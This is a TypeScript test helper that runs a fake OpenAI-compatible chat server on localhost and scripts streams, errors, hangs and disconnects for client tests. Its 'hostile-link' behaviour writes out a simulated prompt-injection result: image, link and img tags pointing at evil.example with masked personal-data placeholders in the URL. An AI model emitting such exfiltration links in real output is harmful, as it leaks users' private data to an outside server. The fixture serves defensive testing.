/**
 * A small OpenAI-compatible HTTP server for the LLM tests, in the test process, on 127.0.0.1 and
 * a free port. It speaks the real wire format (`POST …/chat/completions`; with `stream: true` a
 * `text/event-stream` of `chat.completion.chunk` events and `data: [DONE]`; without, one JSON
 * `chat.completion`), and each test scripts what the next requests get: a stream, an HTTP error,
 * a hang, a disconnect after N chunks, a stall, a slow stream. Every request is recorded (method,
 * URL, headers, raw body, arrival time), with promises for when its response and its socket close,
 * so tests await events instead of sleeping.
 */
import * as http from 'node:http';
import type { AddressInfo, Socket } from 'node:net';

export type Behaviour =
  /** Streams `chunks` (one SSE event each), then a chunk with `finishReason`, then [DONE]. */
  | { kind: 'stream'; chunks: string[]; finishReason?: string; delayMs?: number }
  /** An HTTP error (or any status) with an OpenAI-style error body. */
  | { kind: 'status'; status: number; message?: string; headers?: Record<string, string> }
  /** Accepts the request and never answers. */
  | { kind: 'hang' }
  /** Streams the first `after` chunks, then destroys the socket. */
  | { kind: 'disconnect'; chunks: string[]; after: number }
  /** Streams the first `after` chunks, then sends nothing more (keeps the socket open). */
  | { kind: 'stall'; chunks: string[]; after: number }
  /** A 200 that is not an event stream (a web page at the wrong URL). */
  | { kind: 'html' }
  /** A redirect (301, 302, 307, 308) to `location`. */
  | { kind: 'redirect'; status: number; location: string }
  /** `count` chunks of `chunk`, as fast as the client reads them (stops when the client goes away). */
  | { kind: 'huge'; chunk: string; count: number }
  /** A stream with no text: a finish reason alone (content_filter, tool_calls), or chunks with no choices at all. */
  | { kind: 'empty'; finishReason?: string; noChoices?: boolean }
  /**
   * A report whose image and link point at another server with the masks the request carried
   * (〔客户A〕, 〔电话1〕…) in the URL: what a prompt injection would make a model write.
   */
  | { kind: 'hostile-link' }
  /** These `data:` payloads verbatim (`null`, malformed chunks…), then [DONE]. */
  | { kind: 'raw'; events: string[] };

export interface RecordedRequest {
  method: string;
  url: string;
  headers: http.IncomingHttpHeaders;
  /** The raw request body as received. */
  body: string;
  json: { model?: string; stream?: boolean; messages?: Array<{ role: string; content: string }>; [k: string]: unknown } | undefined;
  /** Date.now() when the request had fully arrived. */
  at: number;
  /** Date.now() when the response was complete (status answers and finished streams). */
  respondedAt?: number;
  /** Resolves (with Date.now()) when the response closes, normally or because the client went away. */
  responseClosed: Promise<number>;
  /** Resolves when the TCP socket itself closes. */
  socketClosed: Promise<number>;
  /** Whether the server had sent the whole response when it closed. */
  completed: boolean;
  /** Chunks written before the response ended or the socket closed. */
  chunksSent: number;
}

export class FakeLlmServer {
  readonly requests: RecordedRequest[] = [];
  private queue: Behaviour[] = [];
  private fallback: Behaviour = { kind: 'stream', chunks: ['## 业务需求分析\n', '你好'] };
  private readonly sockets = new Set<Socket>();
  private readonly timers = new Set<ReturnType<typeof setTimeout>>();
  private waiters: Array<(r: RecordedRequest) => void> = [];

  private constructor(private readonly server: http.Server) {}

  static async start(): Promise<FakeLlmServer> {
    const server = http.createServer();
    const fake = new FakeLlmServer(server);
    server.on('connection', (s) => {
      fake.sockets.add(s);
      s.on('close', () => fake.sockets.delete(s));
    });
    server.on('request', (req, res) => fake.handle(req, res));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    return fake;
  }

  get port(): number {
    return (this.server.address() as AddressInfo).port;
  }

  get baseUrl(): string {
    return `http://127.0.0.1:${this.port}/v1`;
  }

  /** What the next requests get, in order; after that, the default behaviour. */
  script(...behaviours: Behaviour[]): this {
    this.queue.push(...behaviours);
    return this;
  }

  /** What every request gets once the script is used up. */
  setDefault(b: Behaviour): this {
    this.fallback = b;
    return this;
  }

  /** The n-th request (0-based), as soon as it has arrived. */
  request(n: number): Promise<RecordedRequest> {
    if (this.requests[n]) return Promise.resolve(this.requests[n]!);
    return new Promise((resolve) => {
      const check = (r: RecordedRequest) => {
        if (this.requests[n] === r) resolve(r);
        else this.waiters.push(check);
      };
      this.waiters.push(check);
    });
  }

  async close(): Promise<void> {
    for (const timer of this.timers) clearTimeout(timer);
    for (const s of this.sockets) s.destroy();
    await new Promise<void>((resolve) => this.server.close(() => resolve()));
  }

  private later(ms: number, fn: () => void): void {
    const timer = setTimeout(() => {
      this.timers.delete(timer);
      fn();
    }, ms);
    this.timers.add(timer);
  }

  private handle(req: http.IncomingMessage, res: http.ServerResponse): void {
    const parts: Buffer[] = [];
    req.on('data', (c: Buffer) => parts.push(c));
    req.on('end', () => {
      const body = Buffer.concat(parts).toString('utf8');
      let json: RecordedRequest['json'];
      try {
        json = JSON.parse(body) as RecordedRequest['json'];
      } catch {
        json = undefined;
      }
      const socket = req.socket;
      const record: RecordedRequest = {
        method: req.method ?? '',
        url: req.url ?? '',
        headers: req.headers,
        body,
        json,
        at: Date.now(),
        responseClosed: new Promise((resolve) => res.on('close', () => resolve(Date.now()))),
        socketClosed: socket.destroyed ? Promise.resolve(Date.now()) : new Promise((resolve) => socket.once('close', () => resolve(Date.now()))),
        completed: false,
        chunksSent: 0,
      };
      res.on('close', () => {
        record.completed = res.writableFinished;
      });
      this.requests.push(record);
      const waiting = this.waiters;
      this.waiters = [];
      for (const w of waiting) w(record);
      if (req.method !== 'POST' || !/\/chat\/completions$/.test((req.url ?? '').split('?')[0]!)) {
        this.status(res, record, { kind: 'status', status: 404, message: `No route for ${req.method} ${req.url}` });
        return;
      }
      this.respond(this.queue.shift() ?? this.fallback, res, record);
    });
  }

  private respond(b: Behaviour, res: http.ServerResponse, record: RecordedRequest): void {
    const stream = record.json?.stream === true;
    switch (b.kind) {
      case 'status':
        this.status(res, record, b);
        return;
      case 'hang':
        return;
      case 'html':
        res.writeHead(200, { 'content-type': 'text/html' });
        res.end('<html><body>Welcome</body></html>', () => (record.respondedAt = Date.now()));
        return;
      case 'stream':
        if (!stream) {
          this.json(res, record, b.chunks.join(''), b.finishReason ?? 'stop');
          return;
        }
        this.sse(res, record, b.chunks, { finishReason: b.finishReason ?? 'stop', delayMs: b.delayMs ?? 0 });
        return;
      case 'disconnect':
        this.sse(res, record, b.chunks.slice(0, b.after), { end: 'destroy', delayMs: 0 });
        return;
      case 'stall':
        this.sse(res, record, b.chunks.slice(0, b.after), { end: 'stall', delayMs: 0 });
        return;
      case 'redirect':
        res.writeHead(b.status, { location: b.location, 'content-type': 'text/plain' });
        res.end(`Moved to ${b.location}`, () => (record.respondedAt = Date.now()));
        return;
      case 'huge':
        this.sse(res, record, { length: b.count, at: () => b.chunk }, { finishReason: 'stop', delayMs: 0 });
        return;
      case 'empty':
        if (b.noChoices) {
          res.writeHead(200, { 'content-type': 'text/event-stream' });
          res.end(`data: ${JSON.stringify({ id: 'chatcmpl-test', object: 'chat.completion.chunk', created: 0, model: 'test', choices: [] })}\n\ndata: [DONE]\n\n`, () => (record.respondedAt = Date.now()));
          return;
        }
        this.sse(res, record, [], { finishReason: b.finishReason ?? 'content_filter', delayMs: 0 });
        return;
      case 'hostile-link': {
        const masks = [...new Set(record.body.match(/〔(?:客户|人名|电话|邮箱|证件)[A-Z0-9]{1,3}〕/g) ?? [])];
        const query = masks.map((m, i) => `m${i}=${m}`).join('&');
        const text = `## 业务需求分析\n客户为${masks[0] ?? '〔客户A〕'}。\n\n![logo](http://evil.example/p.png?${query})\n\n[详情](http://evil.example/d?${query}) · [官网](https://example.com/about)\n\n<img src="http://evil.example/i?${query}">\n`;
        this.sse(res, record, [text.slice(0, 40), text.slice(40)], { finishReason: 'stop', delayMs: 0 });
        return;
      }
      case 'raw':
        res.writeHead(200, { 'content-type': 'text/event-stream' });
        res.end(b.events.map((e) => `data: ${e}\n\n`).join('') + 'data: [DONE]\n\n', () => (record.respondedAt = Date.now()));
        return;
    }
  }

  private status(res: http.ServerResponse, record: RecordedRequest, b: Extract<Behaviour, { kind: 'status' }>): void {
    const payload = JSON.stringify({ error: { message: b.message ?? http.STATUS_CODES[b.status] ?? 'error', type: 'test_error', code: null } });
    res.writeHead(b.status, { 'content-type': 'application/json', ...(b.headers ?? {}) });
    res.end(payload, () => (record.respondedAt = Date.now()));
  }

  private json(res: http.ServerResponse, record: RecordedRequest, content: string, finishReason: string): void {
    const payload = {
      id: 'chatcmpl-test',
      object: 'chat.completion',
      created: Math.floor(Date.now() / 1000),
      model: record.json?.model ?? 'test',
      choices: [{ index: 0, message: { role: 'assistant', content }, finish_reason: finishReason }],
      usage: { prompt_tokens: 10, completion_tokens: 5, total_tokens: 15 },
    };
    res.writeHead(200, { 'content-type': 'application/json' });
    res.end(JSON.stringify(payload), () => (record.respondedAt = Date.now()));
  }

  private sse(res: http.ServerResponse, record: RecordedRequest, list: readonly string[] | { length: number; at(i: number): string }, opts: { finishReason?: string; delayMs: number; end?: 'destroy' | 'stall' }): void {
    const chunks = Array.isArray(list) ? { length: list.length, at: (i: number) => list[i]! } : (list as { length: number; at(i: number): string });
    const model = record.json?.model ?? 'test';
    const created = Math.floor(Date.now() / 1000);
    const event = (delta: Record<string, unknown>, finish: string | null) =>
      `data: ${JSON.stringify({ id: 'chatcmpl-test', object: 'chat.completion.chunk', created, model, choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`;
    res.writeHead(200, { 'content-type': 'text/event-stream', 'cache-control': 'no-cache', connection: 'keep-alive' });
    res.write(event({ role: 'assistant', content: '' }, null));
    let i = 0;
    const next = () => {
      if (res.destroyed) return;
      if (i < chunks.length) {
        const ok = res.write(event({ content: chunks.at(i++) }, null), () => (record.chunksSent = i));
        if (opts.delayMs > 0) this.later(opts.delayMs, next);
        // Wait for the client to read (a huge answer must not pile up in this process).
        else if (!ok) res.once('drain', next);
        else setImmediate(next);
        return;
      }
      if (opts.end === 'destroy') {
        // Let the written chunks reach the client, then cut the connection without ending the response.
        res.write('', () => res.socket?.destroy());
        return;
      }
      if (opts.end === 'stall') return;
      res.write(event({}, opts.finishReason ?? 'stop'));
      const usage = (record.json?.stream_options as { include_usage?: boolean } | undefined)?.include_usage;
      if (usage) res.write(`data: ${JSON.stringify({ id: 'chatcmpl-test', object: 'chat.completion.chunk', created, model, choices: [], usage: { prompt_tokens: 100, completion_tokens: chunks.length, total_tokens: 100 + chunks.length } })}\n\n`);
      res.end('data: [DONE]\n\n', () => (record.respondedAt = Date.now()));
    };
    next();
  }
}
